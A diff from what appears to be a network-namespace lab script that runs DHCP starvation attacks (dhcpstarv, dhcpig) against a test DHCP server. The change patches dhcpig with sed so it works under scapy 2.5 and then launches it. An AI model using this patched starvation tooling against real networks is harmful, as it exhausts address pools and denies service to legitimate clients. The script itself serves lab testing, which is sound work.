@@ -63,9 +63,12 @@ inside() {
   wait "$starv_pid" 2>/dev/null || true
   local after_dhcpstarv
   after_dhcpstarv="$(attacker_leases "$witness_mac")"
-  # Debian 12's dhcpig 1.5-3 dies on its first DISCOVER: scapy 2.5 refuses its BOOTP flags
-  # 0xFFFFFF (a 16-bit field). A copy with the broadcast flag alone (0x8000) is the same attack.
-  sed 's/flags=0xFFFFFF/flags=0x8000/g' "$(command -v dhcpig)" >"$LAB_DIR/dhcpig"
+  # Debian 12's dhcpig 1.5-3 dies on its first DISCOVER under scapy 2.5: BOOTP flags 0xFFFFFF
+  # (a 16-bit field) and Python 2 option values (chr(N) for bytes). A copy with the broadcast
+  # flag alone (0x8000) and integer/bytes values sends the same DISCOVERs.
+  sed -e 's/flags=0xFFFFFF/flags=0x8000/g' -e 's/chr(\([0-9]*\))/\1/g' \
+    -e 's/("client_id", 1, mac2str(m))/("client_id", b"\\x01" + mac2str(m))/' \
+    "$(command -v dhcpig)" >"$LAB_DIR/dhcpig"
   ip netns exec "$LAB_NS_CLIENT" timeout "$half" "$(head -n 1 "$(command -v dhcpig)" | cut -c3-)" "$LAB_DIR/dhcpig" -v 10 ll-cli0 >"$LAB_DIR/dhcpig.log" 2>&1 &
   local pig_pid=$!
 
